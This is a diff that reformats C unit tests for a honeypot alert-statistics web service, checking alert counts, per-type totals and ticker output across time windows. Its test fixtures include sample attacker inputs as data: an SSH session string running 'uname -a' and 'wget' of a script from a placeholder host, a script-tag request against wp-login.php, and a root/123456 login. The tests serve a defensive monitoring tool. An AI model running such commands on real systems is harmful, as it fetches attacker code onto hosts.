@@ -18,12 +18,14 @@
 /* ---- counts: community alerts 30 s, 5.5 min, 2 h and 30 h old, private ones 40 s and 4 h old ---- */
 
 static const struct alert count_alerts[] = {
+    /* clang-format off */
     {.id = "c-30s", .age = 30, .peer_type = "Webpage"},
     {.id = "c-5m", .age = 330, .peer_type = "SSH/console(cowrie)"},
     {.id = "c-2h", .age = 2 * HOUR, .peer_type = "Webpage", .extra = "{\"hostname\":\"h2\",\"vulnid\":\"CVE-2017-0144\"}"},
     {.id = "c-30h", .age = 30 * HOUR, .peer_type = "Network(honeytrap)"},
     {.id = "p-40s", .age = 40, .peer_type = "Passwords(heralding)", .private_domain = true},
     {.id = "p-4h", .age = 4 * HOUR, .peer_type = "Webpage", .private_domain = true},
+    /* clang-format on */
 };
 #define COUNT_ALERTS ARRAY_LEN(count_alerts)
 
@@ -80,8 +82,8 @@ START_TEST(alerts_count_windows_and_domains)
             char path[256], xml[256], json[64];
             long long n = expected_count(cis[c], windows[w]);
 
-            snprintf(xml, sizeof xml, XML_DECL "<EWSSimpleIPInfo>\n  <AlertCount>%lld</AlertCount>\n</EWSSimpleIPInfo>\n",
-                     n);
+            snprintf(xml, sizeof xml,
+                     XML_DECL "<EWSSimpleIPInfo>\n  <AlertCount>%lld</AlertCount>\n</EWSSimpleIPInfo>\n", n);
             snprintf(json, sizeof json, "{\"AlertCount\":%lld}\n", n);
             count_path(path, sizeof path, "retrieveAlertsCount", windows[w], cis[c], NULL);
             http_get_expect(path, 200, HTTP_XML, xml);
@@ -101,23 +103,27 @@ START_TEST(alerts_count_fixed_numbers)
     http_get_expect("/alert/retrieveAlertsCount?time=10&out=json", 200, HTTP_JSON, "{\"AlertCount\":2}\n");
     http_get_expect("/alert/retrieveAlertsCount?time=180&out=json", 200, HTTP_JSON, "{\"AlertCount\":3}\n");
     http_get_expect("/alert/retrieveAlertsCount?time=2880&out=json", 200, HTTP_JSON, "{\"AlertCount\":4}\n");
-    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=0&out=json", 200, HTTP_JSON, "{\"AlertCount\":2}\n");
-    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=-1&out=json", 200, HTTP_JSON, "{\"AlertCount\":6}\n");
+    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=0&out=json", 200, HTTP_JSON,
+                    "{\"AlertCount\":2}\n");
+    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=-1&out=json", 200, HTTP_JSON,
+                    "{\"AlertCount\":6}\n");
 }
 END_TEST
 
 START_TEST(alerts_count_with_type)
 {
-    http_get_expect("/alert/retrieveAlertsCountWithType?time=2880", 200, HTTP_JSON,
-                    "{\"AlertCountPerType\":{\"Network(honeytrap)\":1,\"SSH/console(cowrie)\":1,\"Webpage\":2},"
-                    "\"AlertCountTotal\":4}\n");
+    http_get_expect(
+        "/alert/retrieveAlertsCountWithType?time=2880", 200, HTTP_JSON,
+        "{\"AlertCountPerType\":{\"Network(honeytrap)\":1,\"SSH/console(cowrie)\":1,\"Webpage\":2},"
+        "\"AlertCountTotal\":4}\n");
     http_get_expect("/alert/retrieveAlertsCountWithType?time=2880&ci=-1", 200, HTTP_JSON,
                     "{\"AlertCountPerType\":{\"Network(honeytrap)\":1,\"Passwords(heralding)\":1,"
                     "\"SSH/console(cowrie)\":1,\"Webpage\":3},\"AlertCountTotal\":6}\n");
     http_get_expect("/alert/retrieveAlertsCountWithType?time=10&ci=0", 200, HTTP_JSON,
                     "{\"AlertCountPerType\":{\"Passwords(heralding)\":1},\"AlertCountTotal\":1}\n");
-    http_get_expect("/alert/retrieveAlertsCountWithType?time=10", 200, HTTP_JSON,
-                    "{\"AlertCountPerType\":{\"SSH/console(cowrie)\":1,\"Webpage\":1},\"AlertCountTotal\":2}\n");
+    http_get_expect(
+        "/alert/retrieveAlertsCountWithType?time=10", 200, HTTP_JSON,
+        "{\"AlertCountPerType\":{\"SSH/console(cowrie)\":1,\"Webpage\":1},\"AlertCountTotal\":2}\n");
 }
 END_TEST
 
@@ -127,7 +133,8 @@ START_TEST(alert_stats)
         time_t now = time(NULL);
         char path[64], body[256];
 
-        snprintf(path, sizeof path, "/alert/retrieveAlertStats%s%s", cis[c] ? "?ci=" : "", cis[c] ? cis[c] : "");
+        snprintf(path, sizeof path, "/alert/retrieveAlertStats%s%s", cis[c] ? "?ci=" : "",
+                 cis[c] ? cis[c] : "");
         snprintf(body, sizeof body,
                  "{\"AlertsLast24Hours\":%lld,\"AlertsLast5Minutes\":%lld,\"AlertsLastHour\":%lld,"
                  "\"AlertsLastMinute\":%lld}\n",
@@ -135,8 +142,9 @@ START_TEST(alert_stats)
                  expected_since(cis[c], now - 60 * 60), expected_since(cis[c], now - 60));
         http_get_expect(path, 200, HTTP_JSON, body);
     }
-    http_get_expect("/alert/retrieveAlertStats", 200, HTTP_JSON,
-                    "{\"AlertsLast24Hours\":3,\"AlertsLast5Minutes\":1,\"AlertsLastHour\":2,\"AlertsLastMinute\":1}\n");
+    http_get_expect(
+        "/alert/retrieveAlertStats", 200, HTTP_JSON,
+        "{\"AlertsLast24Hours\":3,\"AlertsLast5Minutes\":1,\"AlertsLastHour\":2,\"AlertsLastMinute\":1}\n");
 }
 END_TEST
 
@@ -151,6 +159,7 @@ static time_t ticker_loaded;
 
 /* The first ones carry each way the ticker maps a field; the rest are plain web alerts. */
 static const struct alert ticker_specials[] = {
+    /* clang-format off */
     {.request = "/wp-login.php?x=%3Cscript%3E"},
     {.peer_type = "SSH/console(cowrie)", .request = "\nuname -a\nwget http://x.example/a.sh", .country = "CN",
      .country_name = "China", .location = "34.7725 , 113.7266"},
@@ -161,6 +170,7 @@ static const struct alert ticker_specials[] = {
      .country_name = "IANA Private IP Range", .location = "0.0 , 0.0"},
     {.peer_type = "SSH/console(cowrie)", .request = "", .username = "root", .password = "123456", .login = "Success"},
     {.peer_type = "Passwords(heralding)", .request = ""},
+    /* clang-format on */
 };
 
 static void load_ticker(void)
@@ -184,7 +194,8 @@ static const cJSON *ticker_reply(const char *path, cJSON **doc)
 
     http_get(path, &r);
     http_expect(&r, 200, HTTP_JSON, NULL);
-    ck_assert_msg(strncmp(r.body, "{\"alerts\":[", 11) == 0 && r.len > 3 && strcmp(r.body + r.len - 3, "]}\n") == 0,
+    ck_assert_msg(strncmp(r.body, "{\"alerts\":[", 11) == 0 && r.len > 3 &&
+                      strcmp(r.body + r.len - 3, "]}\n") == 0,
                   "%s: %s", path, r.body);
     *doc = cJSON_Parse(r.body);
     http_reply_free(&r);
@@ -209,10 +220,11 @@ static void expect_ticker_ids(const char *path, const char *ci)
         ck_assert_msg(item != NULL, "%s: only %d alerts", path, listed);
         id = cJSON_GetObjectItemCaseSensitive(item, "id");
         ck_assert_msg(cJSON_IsString(id) && strcmp(id->valuestring, ticker_ids[i]) == 0,
-                      "%s: alert %d is %s, expected %s", path, listed, cJSON_IsString(id) ? id->valuestring : "?",
-                      ticker_ids[i]);
+                      "%s: alert %d is %s, expected %s", path, listed,
+                      cJSON_IsString(id) ? id->valuestring : "?", ticker_ids[i]);
         ck_assert(cJSON_IsBool(cJSON_GetObjectItemCaseSensitive(item, "clientDomain")));
-        ck_assert(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(item, "clientDomain")) == !ticker[i].private_domain);
+        ck_assert(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(item, "clientDomain")) ==
+                  !ticker[i].private_domain);
         item = item->next;
         listed++;
     }
@@ -282,8 +294,9 @@ START_TEST(no_data_is_not_an_error)
                     XML_DECL "<EWSSimpleIPInfo>\n  <AlertCount>0</AlertCount>\n</EWSSimpleIPInfo>\n");
     http_get_expect("/alert/retrieveAlertsCountWithType?time=day", 200, HTTP_JSON,
                     "{\"AlertCountPerType\":{},\"AlertCountTotal\":0}\n");
-    http_get_expect("/alert/retrieveAlertStats", 200, HTTP_JSON,
-                    "{\"AlertsLast24Hours\":0,\"AlertsLast5Minutes\":0,\"AlertsLastHour\":0,\"AlertsLastMinute\":0}\n");
+    http_get_expect(
+        "/alert/retrieveAlertStats", 200, HTTP_JSON,
+        "{\"AlertsLast24Hours\":0,\"AlertsLast5Minutes\":0,\"AlertsLastHour\":0,\"AlertsLastMinute\":0}\n");
     http_get_expect("/alert/retrieveAlertsJson", 200, HTTP_JSON, "{\"alerts\":[]}\n");
 }
 END_TEST
@@ -310,9 +323,11 @@ START_TEST(cache_skips_the_engine)
     ck_assert_int_gt(searches_of("/alert/retrieveAlertsCount?time=10&out=json", "{\"AlertCount\":1}\n"), 0);
     ck_assert_int_eq(searches_of("/alert/retrieveAlertsCount?time=10&out=json", "{\"AlertCount\":1}\n"), 0);
     /* an equivalent spelling is the same cache entry */
-    ck_assert_int_eq(searches_of("/alert/retrieveAlertsCount?out=json&time=010&ci=1", "{\"AlertCount\":1}\n"), 0);
+    ck_assert_int_eq(searches_of("/alert/retrieveAlertsCount?out=json&time=010&ci=1", "{\"AlertCount\":1}\n"),
+                     0);
     ck_assert_int_gt(searches_of("/alert/retrieveAlertsCount?time=11&out=json", "{\"AlertCount\":1}\n"), 0);
-    ck_assert_int_gt(searches_of("/alert/retrieveAlertsCount?time=10&out=json&ci=0", "{\"AlertCount\":0}\n"), 0);
+    ck_assert_int_gt(searches_of("/alert/retrieveAlertsCount?time=10&out=json&ci=0", "{\"AlertCount\":0}\n"),
+                     0);
     ck_assert_int_gt(searches_of("/alert/retrieveAlertStats", NULL), 0);
     ck_assert_int_eq(searches_of("/alert/retrieveAlertStats", NULL), 0);
 }
